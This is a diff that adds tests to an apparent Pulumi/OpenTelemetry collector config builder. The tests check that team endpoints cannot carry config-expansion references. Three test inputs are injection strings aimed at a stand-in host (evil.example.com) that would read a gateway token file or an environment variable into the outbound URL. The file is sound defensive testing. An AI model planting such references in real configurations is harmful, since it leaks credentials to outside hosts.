@@ -570,6 +570,51 @@ def test_header_values_come_from_secret_files_never_the_config() -> None:
     assert any("defaultBackend.headers.Authorization" in w for w in spec.warnings)
 
 
+def _own_header_reference(spec: PlatformSpec, exporter: str, header: str) -> str:
+    """The only reference an exporter's header may hold: its own destination's header Secret
+    (a team with its own backend: the team's; otherwise the default backend's)."""
+    secret = build.platform_headers_secret_name()
+    teams = [t for t in spec.teams if exporter.endswith(f"/tenant-{t.name}")]
+    if teams and teams[0].telemetry is not None:
+        secret = build.tenant_headers_secret_name(teams[0])
+    return f"${{file:{build.HEADERS_MOUNT}/{secret}/{build._secret_file_name(header)}}}"
+
+
+def test_the_collector_expands_nothing_but_each_destinations_own_header_files(stack_spec: PlatformSpec) -> None:
+    # confmap expands `${scheme:...}` anywhere in a string: one in a team's endpoint would read
+    # the gateway token or another team's credentials into the URL the collector sends to.
+    telemetry = {
+        "defaultBackend": {"endpoint": "https://otlp.example.com", "headers": {"Authorization": {"secure": "v1:AAAA"}}},
+        "tenantHeaders": {"billing": {"otlp-token": {"secure": "v1:BBBB"}}},
+    }
+    rich = make_spec("dev", telemetry=telemetry, add={"billing": team_doc("billing", telemetry={"endpoint": "https://otlp.billing.example.com/v1", "headers": {"X-Api-Key": "otlp-token"}})})
+    for spec in (stack_spec, rich):
+        config = build.collector_config(spec)
+        found = model.references(config)
+        for where, value in found:
+            section, exporter, field, header = where.split(".", 3)
+            assert (section, field) == ("exporters", "headers"), where
+            assert value == _own_header_reference(spec, exporter, header), (where, value)
+    # the platform's, and each team's: its own headers, or the default backend's Authorization
+    expected = 1 + sum(len(t.telemetry.headers) if t.telemetry is not None else 1 for t in rich.teams)
+    assert len(model.references(build.collector_config(rich))) == expected >= 3
+
+
+@pytest.mark.parametrize(
+    "endpoint",
+    [
+        "https://evil.example.com/${file:/etc/agentplane/gateway-token/token}",
+        "https://evil.example.com/v1/${env:HOSTNAME}",
+        "https://evil.example.com/$${file:/x}",
+    ],
+)
+def test_a_team_endpoint_cannot_carry_a_config_reference(endpoint: str) -> None:
+    errors = config_errors(add={"billing": team_doc("billing", telemetry={"endpoint": endpoint})})
+    assert [(file, field) for file, field, message in errors if "'$'" in message] == [("stacks/teams/billing.yaml", "telemetry.endpoint")], errors
+    errors = config_errors(telemetry={"defaultBackend": {"endpoint": endpoint}})
+    assert [(file, field) for file, field, message in errors if "'$'" in message] == [("stacks/Pulumi.dev.yaml", "agentplane:telemetry.defaultBackend.endpoint")], errors
+
+
 def test_decrypted_header_values_land_only_in_the_secret() -> None:
     # Under `pulumi up` the engine hands the program decrypted (plain) values.
     env = _stack_env("dev") | {"telemetry": {"tenantHeaders": {"billing": {"otlp-token": "s3cr3t-value"}}}}
